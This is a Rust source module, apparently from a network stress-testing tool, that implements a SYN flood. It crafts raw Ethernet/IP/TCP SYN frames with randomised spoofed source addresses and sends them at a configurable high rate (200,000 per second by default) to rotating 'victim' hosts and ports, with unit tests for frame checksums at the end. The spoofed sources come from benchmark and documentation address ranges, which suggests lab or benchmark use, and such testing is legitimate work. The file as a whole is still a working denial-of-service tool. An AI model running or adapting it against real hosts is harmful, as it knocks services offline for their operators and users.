//! SYN flood: sends SYNs from random sources at a steady rate.

use std::net::IpAddr;
use std::time::{Duration, Instant};

use anyhow::{Context, Result, ensure};
use serde_json::{Value, json};

use crate::packet::{BATCH, Port};
use crate::random::Random;

/// Interval between two bursts.
const TICK: Duration = Duration::from_micros(200);

/// Options of a usual SYN: MSS 1460, SACK permitted, timestamps, window scale 7.
const TCP_OPTIONS: [u8; 20] = [2, 4, 5, 180, 4, 2, 8, 10, 0, 0, 0, 1, 0, 0, 0, 0, 1, 3, 3, 7];
/// Bytes of the TCP header of the SYN: 20 without options.
const SYN_LEN: u8 = 40;
const TCP_LEN: usize = SYN_LEN as usize;
const _: () = assert!(TCP_LEN == 20 + TCP_OPTIONS.len());
const ETHERNET_LEN: usize = 14;

#[derive(clap::Args)]
pub(crate) struct Options {
    /// Interface that leads to the victim
    interface: String,
    /// Link address of the victim
    #[arg(long)]
    mac: Mac,
    /// Addresses of the victim, used in rotation
    #[arg(long = "to", required = true)]
    hosts: Vec<IpAddr>,
    /// Ports to flood, used in rotation
    #[arg(long, value_delimiter = ',', default_value = "7")]
    ports: Vec<u16>,
    /// Number of SYNs sent per second
    #[arg(long, default_value_t = 200_000)]
    rate: u32,
    #[arg(long, default_value_t = 10.0)]
    seconds: f64,
    #[arg(long, default_value_t = 1)]
    seed: u64,
}

/// An Ethernet address, parsed from the command line.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
struct Mac([u8; 6]);

impl std::str::FromStr for Mac {
    type Err = &'static str;

    fn from_str(text: &str) -> Result<Self, Self::Err> {
        let bytes = text.split(':').map(|byte| u8::from_str_radix(byte, 16)).collect::<Result<Vec<_>, _>>();
        let bytes = bytes.ok().and_then(|bytes| bytes.try_into().ok());
        bytes.map(Self).ok_or("six bytes in hexadecimal, with colons between them")
    }
}

/// Number of SYNs sent, and of those that the interface did not accept.
pub(crate) fn run(options: &Options) -> Result<Value> {
    let port = Port::open(&options.interface).with_context(|| format!("interface {}", options.interface))?;
    ensure!(options.rate > 0 && options.seconds > 0.0, "a rate and a time above zero are wanted");
    let mut random = Random::new(options.seed, 0);
    let mut targets =
        options.hosts.iter().flat_map(|host| options.ports.iter().map(move |port| (*host, *port))).cycle();
    let (begin, length) = (Instant::now(), Duration::from_secs_f64(options.seconds));
    let (mut made, mut sent) = (0_u64, 0_u64);
    let mut frames: Vec<Vec<u8>> = Vec::with_capacity(BATCH);
    loop {
        let elapsed = begin.elapsed();
        let due = (elapsed.min(length).as_secs_f64() * f64::from(options.rate)).round();
        // SYNs overdue at the end are not sent: the rate counts, not the number.
        while (made as f64) < due && begin.elapsed() <= length {
            frames.clear();
            for (host, port) in targets.by_ref().take(BATCH) {
                frames.push(syn(options.mac, host, port, &mut random));
            }
            made += frames.len() as u64;
            sent += port.send(&frames) as u64;
        }
        if elapsed >= length {
            break;
        }
        std::thread::sleep(TICK);
    }
    let seconds = begin.elapsed().as_secs_f64();
    let per_second = (sent as f64 / seconds).round();
    Ok(json!({ "sent": sent, "refused": made - sent, "seconds": seconds, "per_second": per_second }))
}

/// Builds a SYN from a random source in 198.18.0.0/15 (RFC 2544: for benchmarks) or 2001:db8::/32 (RFC 3849: for
/// documentation). These networks are behind the victim's gateway and do not answer.
fn syn(victim: Mac, host: IpAddr, port: u16, random: &mut Random) -> Vec<u8> {
    let (mut frame, addresses_at) = match host {
        IpAddr::V4(host) => {
            let [a, b, c, ..] = random.next().to_be_bytes();
            let mut frame = vec![0; ETHERNET_LEN + 20 + TCP_LEN];
            put(&mut frame, 12, &[0x08, 0x00, 0x45, 0, 0, 20 + SYN_LEN, a, b, 0x40, 0, 64, 6]);
            put(&mut frame, 26, &[198, 18 | (a & 1), b, c]);
            put(&mut frame, 30, &host.octets());
            let checksum = checksum(0, frame.get(ETHERNET_LEN..ETHERNET_LEN + 20).unwrap_or_default());
            put(&mut frame, 24, &checksum.to_be_bytes());
            (frame, 26)
        }
        IpAddr::V6(host) => {
            let mut frame = vec![0; ETHERNET_LEN + 40 + TCP_LEN];
            put(&mut frame, 12, &[0x86, 0xdd, 0x60, 0, 0, 0, 0, SYN_LEN, 6, 64]);
            put(&mut frame, 22, &[0x20, 0x01, 0x0d, 0xb8]);
            put(&mut frame, 26, &random.next().to_be_bytes());
            put(&mut frame, 38, &host.octets());
            (frame, 22)
        }
    };
    put(&mut frame, 0, &victim.0);
    // A locally administered address that no station uses.
    put(&mut frame, 6, &[2, 0xf1, 0x00, 0xd0, 0, 1]);
    let segment_at = frame.len() - TCP_LEN;
    let [high, low, ..] = random.next().to_be_bytes();
    put(&mut frame, segment_at, &[high | 0x80, low]);
    put(&mut frame, segment_at + 2, &port.to_be_bytes());
    let [a, b, c, d, ..] = random.next().to_be_bytes();
    put(&mut frame, segment_at + 4, &[a, b, c, d]);
    put(&mut frame, segment_at + 12, &[(SYN_LEN / 4) << 4, 0x02, 0xfa, 0xf0]);
    put(&mut frame, segment_at + 20, &TCP_OPTIONS);
    // The pseudo-header: both addresses (before the segment), the protocol and the length.
    let pseudo_header = 6 + u32::from(SYN_LEN);
    let checksum = checksum(pseudo_header, frame.get(addresses_at..).unwrap_or_default());
    put(&mut frame, segment_at + 16, &checksum.to_be_bytes());
    frame
}

/// Writes bytes into the frame.
fn put(frame: &mut [u8], at: usize, bytes: &[u8]) {
    if let Some(room) = frame.get_mut(at..).and_then(|rest| rest.get_mut(..bytes.len())) {
        room.copy_from_slice(bytes);
    }
}

/// Returns the checksum of RFC 1071 over an even number of bytes.
fn checksum(start: u32, bytes: &[u8]) -> u16 {
    let (words, _) = bytes.as_chunks();
    let mut sum = words.iter().fold(start, |sum, word| sum + u32::from(u16::from_be_bytes(*word)));
    loop {
        match u16::try_from(sum) {
            Ok(sum) => return !sum,
            Err(_) => sum = (sum & 0xffff) + (sum >> 16),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn link_addresses_are_read() {
        assert_eq!("02:00:0a:fF:00:1".parse(), Ok(Mac([2, 0, 10, 255, 0, 1])));
        for text in ["", "02:00:00:00:00", "02:00:00:00:00:00:00", "02:00:00:00:00:xx", "2"] {
            assert!(text.parse::<Mac>().is_err(), "{text:?}");
        }
    }

    #[test]
    fn checksums_are_right_and_sources_differ() {
        let mut random = Random::new(1, 0);
        let mac = Mac([2; 6]);
        for (host, header, addresses) in [("10.77.0.2", 20, 8), ("fd77::2", 40, 32)] {
            let host: IpAddr = host.parse().unwrap();
            let first = syn(mac, host, 7, &mut random);
            let second = syn(mac, host, 7, &mut random);
            assert_eq!(first.len(), ETHERNET_LEN + header + TCP_LEN);
            let at = first.len() - TCP_LEN - addresses;
            assert_ne!(first[at..at + addresses / 2], second[at..at + addresses / 2]);
            assert_eq!(first[at + addresses / 2..at + addresses], second[at + addresses / 2..at + addresses]);
            // RFC 1071: the sum over data with a valid checksum is zero.
            assert_eq!(checksum(6 + u32::from(SYN_LEN), &first[at..]), 0);
            if host.is_ipv4() {
                assert_eq!(checksum(0, &first[ETHERNET_LEN..ETHERNET_LEN + 20]), 0);
            }
        }
    }
}
